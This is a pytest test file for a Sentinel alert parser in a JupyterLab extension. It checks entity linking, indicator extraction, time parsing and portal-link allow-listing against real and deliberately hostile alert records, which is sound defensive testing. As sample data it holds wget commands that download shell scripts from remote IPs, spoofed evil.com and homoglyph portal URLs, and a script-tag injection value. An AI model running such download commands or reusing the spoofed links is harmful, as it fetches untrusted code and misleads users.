"""Rows of SecurityAlert as alerts: real ones, hostile ones, broken ones."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyterlab_sentinel.kql.binding import bind
from jupyterlab_sentinel.models.alerts import portal_link
from jupyterlab_sentinel.models.entities import Entity, GenericEntity
from jupyterlab_sentinel.models.loose_json import MAX_DEPTH
from jupyterlab_sentinel.services.alert_rows import parse_alert, parse_alerts, read_moment

DATA = Path(__file__).parents[2] / "data"
HOSTILE = json.loads((DATA / "hostile-alerts.json").read_text("utf-8"))["records"]
C2_DOWNLOAD = "wget http://23.97.60.214/x.sh -t 3"


def load(name: str) -> Any:
    return json.loads((DATA / "alerts" / f"{name}.json").read_text("utf-8"))


def titles(alert: Any) -> Any:
    return [(entity.kind, entity.title) for entity in alert.entities]


def hostile(record_id: Any) -> Any:
    return next(record["alert"] for record in HOSTILE if record["id"] == record_id)


def problems(alert: Any, field: Any) -> Any:
    return [problem.reason for problem in alert.problems if problem.field == field]


# --- real alerts ---------------------------------------------------------------------------------------------------


def test_real_entities_know_each_other() -> None:
    first, download, *_ = [
        parse_alert({"Entities": json.dumps(one)}) for one in load("securityalert_entities_real")["Entities"]
    ]
    assert titles(first) == [("ip", "23.97.60.214"), ("host", "MSTICAlertsLxVM2"), ("account", "dbadmin")]
    assert titles(download) == [
        ("host", "MSTICALERTSLXVM2"),
        ("process", "process 0x4e4f"),
        ("account", "dbadmin"),
        ("file", "/usr/bin/wget"),
        ("process", "wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5"),
        ("host-logon-session", "0x2e8cf dbadmin on MSTICALERTSLXVM2"),
    ]
    host, parent, account, file, process, session = download.entities
    assert process.fields["ImageFile"] is file
    assert process.fields["ParentProcess"] is parent
    assert process.fields["Account"] is account
    assert account.fields["Host"] is host
    assert session.fields["Account"] is account
    assert download.problems == ()
    assert [(found.type, found.value, found.where) for found in download.indicators] == [
        ("url", "http://13.67.35.176/QuZYpObins.sh", "Process.CommandLine"),
        ("ipv4", "13.67.35.176", "Process.CommandLine"),
    ]


def test_unknown_kinds_of_real_alerts_are_kept() -> None:
    alert = parse_alert({"Entities": json.dumps(load("securityalert_entities_real")["Entities"][3])})
    assert [type(entity) for entity in alert.entities] == [GenericEntity] * 3
    assert alert.entities[1].kind == "alerts"
    assert alert.entities[1].fields["CompromisedEntity"] == "MSTICALERTSLXVM2"
    assert alert.entities[1].title == "Detected suspicious file download"


def test_copies_of_one_object_under_one_id_are_one_entity() -> None:
    alert = parse_alert({"Entities": json.dumps(list(load("entities_msticpy").values()))})
    assert alert.problems == ()
    assert len(alert.entities) == 7
    assert len({id(entity) for top in alert.entities for entity in top.walk()}) == 7


def test_real_answer_of_the_service() -> None:
    table = load("la_200_securityalert_real_msticpy")["tables"][0]
    names = [column["name"] for column in table["columns"]]
    alerts = parse_alerts(dict(zip(names, row, strict=True)) for row in table["rows"])
    assert len(alerts) == 3
    first = alerts[0]
    assert (first.severity, first.status, first.tactics, first.problems) == ("Medium", "New", ("Unknown",), ())
    assert first.generated == datetime(2023, 2, 20, 11, 4, 2, 637163, tzinfo=UTC)
    assert first.start == datetime(2022, 1, 6, 13, 1, 34, tzinfo=UTC)
    assert first.extended_properties["Event Grouping"] == "SingleAlert"
    assert first.is_incident is False
    assert first.confidence_score is None


def test_alert_as_another_connector_reshaped_it() -> None:
    alert = parse_alert(load("row_SecurityAlert_stixshifter_DATA1")["row"])
    assert titles(alert) == [
        ("host", "Sample-VM"),
        ("process", ".\\sample.exe -t 4"),
        ("account", "Sample-VM\\Sample-account"),
        ("file", "c:\\temp\\sample.exe"),
        ("file", "https://Sample-Storage.blob.core.windows.net/Sample/Sample-Name"),
        ("host-logon-session", "0x427d8dd9 Sample-VM\\Sample-account on Sample-VM"),
        ("filehash", "SHA256 Sample-SHA"),
        ("network-connection", "11.111.111.111 -> 3333"),
    ]
    assert (alert.severity, alert.severity_text) == ("Unknown", "100")
    assert alert.alert_link is not None
    assert alert.confidence_score == 1.0
    assert alert.start == datetime(2023, 3, 22, 7, 27, 9, 489644, tzinfo=UTC)
    assert "11.111.111.111" in [found.value for found in alert.indicators]


# --- hostile alerts ------------------------------------------------------------------------------------------------


def test_as_many_alerts_as_hostile_records() -> None:
    assert len(parse_alerts(record["alert"] for record in HOSTILE)) == len(HOSTILE) == 177


@pytest.mark.parametrize("record", HOSTILE, ids=lambda record: record["id"])
def test_hostile_record(record: Any) -> None:
    alert = parse_alert(record["alert"])
    assert alert.name
    assert alert.severity in ("High", "Medium", "Low", "Informational", "Unknown")
    assert alert.raw == record["alert"]
    assert alert.alert_link is None or alert.alert_link.startswith("https://portal.azure.com/")
    entities = {id(entity): entity for top in alert.entities for entity in top.walk()}
    assert len(entities) <= 10_000
    for entity in entities.values():
        assert "\n" not in entity.title
        assert len(entity.title) <= 200
        entity.title.encode("utf-8")
    for value in alert.extended_properties.values():
        assert depth_of(value) <= MAX_DEPTH
    for found in alert.indicators:
        found.defanged.encode("utf-8")


def depth_of(value: Any) -> Any:
    deepest, waiting = 0, [(value, 1)]
    while waiting:
        item, depth = waiting.pop()
        deepest = max(deepest, depth)
        if isinstance(item, dict | list):
            waiting += [(inner, depth + 1) for inner in (item.values() if isinstance(item, dict) else item)]
    return deepest


@pytest.mark.parametrize(
    ("record_id", "field", "reason", "entities"),
    [
        ("H220", "Entities", "truncated: the text ends too early", [("ip", "1.2.3.4")]),
        ("H224", "Entities", "no list", []),
        ("H228", None, "", [("ip", "IP")]),
        ("H230", "Entities", "not strict JSON", [("ip", "1.2.3.4")]),
        ("H234", None, "", [("host", "a")]),
        ("H236", "Entities", "leads nowhere", []),
        ("H238", "Entities", "two different objects", [("ip", "1.1.1.1"), ("ip", "2.2.2.2")]),
        ("H240", "Entities", "truncated: more than 64 levels", []),
        ("H242", "Entities", "truncated: more than 64 levels", []),
        ("H244", "Entities", "twice", [("url", "1.1.1.1")]),
        ("H246", "Entities", "no Type", [("unknown", "1.2.3.4")]),
        ("H248", None, "", [("mystery-entity", "y")]),
        ("H250", None, "", [("ip", "1.2.3.4")]),
        ("H252", "Entities", "not JSON", []),
        ("H267", "ExtendedProperties", "ends too early", []),
        ("H271", "ExtendedProperties", "truncated: more than 64 levels", []),
        ("H274", "Techniques", "technique", []),
        ("H294", "DisplayName", "not text", []),
        ("H306", "TimeGenerated", "not a time", []),
        ("H314", "ConfidenceScore", "not a number", []),
        ("H193", "AlertLink", "no link", []),
        ("H217", "AlertLink", "no link", []),
    ],
)
def test_what_did_not_parse_is_named_and_the_rest_is_there(
    record_id: Any, field: Any, reason: Any, entities: Any
) -> None:
    alert = parse_alert(hostile(record_id))
    assert titles(alert) == entities
    if field is None:
        assert alert.problems == ()
    else:
        assert reason in " ".join(problems(alert, field))
        assert {problem.field for problem in alert.problems} == {field}


def test_unknown_values_stay_as_text() -> None:
    alert = parse_alert(hostile("H300"))
    assert (alert.severity, alert.severity_text) == ("Unknown", "CRITICAL!!")
    assert parse_alert({"Status": "Escalated", "AlertSeverity": "high"}).status == "Escalated"
    assert parse_alert({"AlertSeverity": " high "}).severity == "High"
    assert parse_alert({"Status": "in progress"}).status == "InProgress"
    assert parse_alert(hostile("H274")).techniques == ("T1059<script>",)


def test_a_title_that_is_missing_is_taken_from_the_next_best() -> None:
    assert parse_alert(hostile("H292")).name == "Baseline H292"
    assert parse_alert({}).name == "(no name)"


@given(
    st.dictionaries(
        st.sampled_from(
            [
                "SystemAlertId",
                "DisplayName",
                "AlertSeverity",
                "Entities",
                "ExtendedProperties",
                "ExtendedLinks",
                "Tactics",
                "Techniques",
                "TimeGenerated",
                "ConfidenceScore",
                "IsIncident",
                "RemediationSteps",
                "AlertLink",
                "Status",
                "SubTechniques",
            ]
        ),
        st.none()
        | st.text()
        | st.booleans()
        | st.integers()
        | st.floats()
        | st.lists(st.text() | st.none())
        | st.dictionaries(st.text(), st.text())
        | st.datetimes()
        | st.just(pd.NaT)
        | st.just(pd.NA)
        | st.just([[{"Type": "ip"}]])
        | st.just({"$ref": "1"}),
    )
)
def test_no_row_raises(row: Any) -> None:
    alert = parse_alert(row)
    assert isinstance(alert.indicators, tuple)
    assert all(isinstance(entity, Entity) for entity in alert.entities)


# --- fields --------------------------------------------------------------------------------------------------------


def test_fields_in_full() -> None:
    alert = parse_alert(
        {
            "systemalertid": "id",
            "DisplayName": "Name",
            "Tactics": "Execution, Persistence",
            "Techniques": '["T1059"]',
            "SubTechniques": '["T1059.004"]',
            "RemediationSteps": '["Do this","Do that"]',
            "ExtendedLinks": '[{"Href":"https://portal.azure.com/#x","Label":"Portal"},{"Href":"http://evil.com","Label":""}]',
            "ExtendedProperties": '{"a":{"b":[1]}}',
            "IsIncident": "True",
            "ConfidenceScore": 0.5,
            "ProviderName": "MDATP",
            "ProductName": "Defender",
        }
    )
    assert alert.system_alert_id == "id"
    assert alert.tactics == ("Execution", "Persistence")
    assert (alert.techniques, alert.sub_techniques) == (("T1059",), ("T1059.004",))
    assert alert.remediation == ("Do this", "Do that")
    assert [(link.label, link.allowed) for link in alert.extended_links] == [("Portal", True), ("link", False)]
    assert alert.extended_properties == {"a": {"b": [1]}}
    assert (alert.is_incident, alert.confidence_score, alert.provider, alert.product) == (
        True,
        0.5,
        "MDATP",
        "Defender",
    )
    assert alert.problems == ()


@pytest.mark.parametrize(
    "tactics", ['["Execution","Persistence"]', ["Execution", "Persistence"], "Execution,Persistence"]
)
def test_tactics_in_every_form(tactics: Any) -> None:
    assert parse_alert({"Tactics": tactics}).tactics == ("Execution", "Persistence")


def test_fields_of_entities_match_whatever_their_case_and_place() -> None:
    rest = {"kind": "Host", "properties": {"hostName": "h", "osFamily": "Linux", "friendlyName": "f"}}
    camel = {"type": "host", "hostName": "h", "OsVersion": "1"}
    alert = parse_alert({"Entities": [rest, camel]})
    assert [dict(entity.fields) for entity in alert.entities] == [
        {"HostName": "h", "OSFamily": "Linux", "friendlyName": "f"},
        {"HostName": "h", "OSVersion": "1"},
    ]


def test_nested_objects_without_a_type_get_that_of_their_field() -> None:
    alert = parse_alert(
        {"Entities": '[{"Type":"process","ImageFile":{"Name":"a"},"Host":{"$ref":"9"}},{"$id":"9","Type":"host"}]'}
    )
    process, host = alert.entities
    image: Any = process.fields["ImageFile"]
    assert image.kind == "file"
    assert process.fields["Host"] is host
    ip = parse_alert({"Entities": '[{"Type":"ip","Location":{"City":"X"}}]'}).entities[0]
    assert ip.fields["Location"] == {"City": "X"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2026-06-01T12:00:00Z", (datetime(2026, 6, 1, 12, tzinfo=UTC), 0)),
        ("2026-06-01T12:00:00", (datetime(2026, 6, 1, 12, tzinfo=UTC), 0)),
        ("2026-06-01T12:00:00.1234567+14:00", (datetime(2026, 5, 31, 22, 0, 0, 123456, tzinfo=UTC), 7)),
        ("2023-03-22 07:27:09.5+00:00", (datetime(2023, 3, 22, 7, 27, 9, 500000, tzinfo=UTC), 0)),
        ("0001-01-01T00:00:00Z", (datetime(1, 1, 1, tzinfo=UTC), 0)),
        ("0001-01-01T00:00:00+14:00", None),
        ("2026-13-01T00:00:00Z", None),
        ("not a date", None),
        ("", None),
        (5, None),
        (pd.Timestamp("2026-06-01T12:00:00.1234567Z"), (datetime(2026, 6, 1, 12, 0, 0, 123456, tzinfo=UTC), 7)),
        (pd.NaT, None),
        (datetime(2026, 6, 1, 12), (datetime(2026, 6, 1, 12, tzinfo=UTC), 0)),  # noqa: DTZ001 - naive on purpose
    ],
)
def test_times(value: Any, expected: Any) -> None:
    moment = read_moment(value)
    assert (moment and tuple(moment)) == expected
    if moment is not None:
        assert type(moment.time) is datetime


@pytest.mark.parametrize(
    ("link", "allowed"),
    [
        ("https://portal.azure.com/#blade/x", True),
        ("https://security.microsoft.com/alerts/1", True),
        ("https://portal.azure.us/", True),
        ("http://portal.azure.com/", False),
        ("https://portal.azure.com:8443/", False),
        ("https://portal.azure.com@evil.com/", False),
        ("https://user@portal.azure.com/", False),
        ("https://portal.azure.com\\@evil.com/", False),
        ("https://portal.azure.com.evil.com/", False),
        ("https://p\u043ertal.azure.com/", False),
        ("//portal.azure.com/", False),
        ("https://portal.azure.com/\n", False),
        (" https://portal.azure.com/", False),
        ("https://[::1/", False),
    ],
)
def test_only_portal_pages_are_links(link: Any, allowed: Any) -> None:
    assert portal_link(link) == (link if allowed else None)


# --- updates -------------------------------------------------------------------------------------------------------


def update(generated: Any, status: Any, **more: Any) -> Any:
    return {"SystemAlertId": "A", "VendorOriginalId": "v", "TimeGenerated": generated, "Status": status, **more}


def test_the_last_update_of_an_alert_counts() -> None:
    rows = [
        update("2026-01-01T00:00:02Z", "Resolved"),
        update("2026-01-01T00:00:01Z", "New"),
        update("not a date", "Dismissed"),
    ]
    assert [alert.status for alert in parse_alerts(rows)] == ["Resolved"]


def test_updates_differ_by_100_ns_or_by_the_end_of_processing() -> None:
    rows = [update("2026-01-01T00:00:00.0000002Z", "Resolved"), update("2026-01-01T00:00:00.0000001Z", "New")]
    assert [alert.status for alert in parse_alerts(rows)] == ["Resolved"]
    tied = [
        update("2026-01-01T00:00:00Z", "Resolved", ProcessingEndTime="2026-01-01T00:00:09Z"),
        update("2026-01-01T00:00:00Z", "New", ProcessingEndTime="2026-01-01T00:00:01Z"),
    ]
    assert [alert.status for alert in parse_alerts(tied)] == ["Resolved"]


def test_an_id_in_another_case_is_the_same_alert_and_a_borrowed_one_is_not() -> None:
    assert len(parse_alerts([update("2026-01-01", "New"), update("2026-01-01", "New") | {"SystemAlertId": "a"}])) == 1
    assert (
        len(parse_alerts([update("2026-01-01", "New"), update("2026-01-01", "New") | {"VendorOriginalId": "w"}])) == 2
    )


def test_alerts_without_an_id_are_never_merged() -> None:
    assert (
        len(parse_alerts([{"DisplayName": "a"}, {"DisplayName": "a"}, {"SystemAlertId": ""}, {"SystemAlertId": None}]))
        == 4
    )


# --- indicators ----------------------------------------------------------------------------------------------------


def test_indicators_come_from_any_field_with_their_place() -> None:
    alert = parse_alert(
        {
            "DisplayName": "Contact with evil[.]com",
            "Description": "seen 9.9.9.9",
            "CompromisedEntity": "10.0.0.4",
            "ExtendedProperties": '{"Attacker":{"list":["8.8.8.8"]}}',
            "Entities": json.dumps(
                [{"Type": "process", "CommandLine": C2_DOWNLOAD}, {"Type": "x-odd", "Note": ["7.7.7.7"]}]
            ),
            "RemediationSteps": "https://learn.microsoft.com/x or block 6.6.6.6",
            "AlertLink": "https://portal.azure.com/5.5.5.5",
            "SourceComputerId": "4.4.4.4",
            "Anything": "3.3.3.3",
        }
    )
    assert [(found.value, found.where) for found in alert.indicators] == [
        ("evil.com", "DisplayName"),
        ("10.0.0.4", "CompromisedEntity"),
        ("http://23.97.60.214/x.sh", "Process.CommandLine"),
        ("23.97.60.214", "Process.CommandLine"),
        ("7.7.7.7", "x-odd.Note"),
        ("9.9.9.9", "Description"),
        ("8.8.8.8", "ExtendedProperties.Attacker"),
        ("6.6.6.6", "RemediationSteps"),
        ("4.4.4.4", "SourceComputerId"),
        ("3.3.3.3", "Anything"),
    ]
    found = alert.indicators[2]
    assert C2_DOWNLOAD[found.start : found.end] == "http://23.97.60.214/x.sh"


def test_indicators_of_fields_that_did_not_parse_are_found_too() -> None:
    alert = parse_alert({"Entities": "garbage 1.2.3.4 {", "ExtendedProperties": "no json but 5.6.7.8"})
    assert {found.value for found in alert.indicators} == {"1.2.3.4", "5.6.7.8"}


def test_an_alert_can_be_bound_in_a_query() -> None:
    alert = parse_alert(
        {"SystemAlertId": "id", "Entities": json.dumps([{"Type": "process", "CommandLine": C2_DOWNLOAD}])}
    )
    text = 'print {{alert.indicators[1].value}}, {{alert.system_alert_id}}, {{alert.entities[0].fields["CommandLine"]}}'
    assert bind(text, {"alert": alert}).text == f'print "23.97.60.214", "id", "{C2_DOWNLOAD}"'
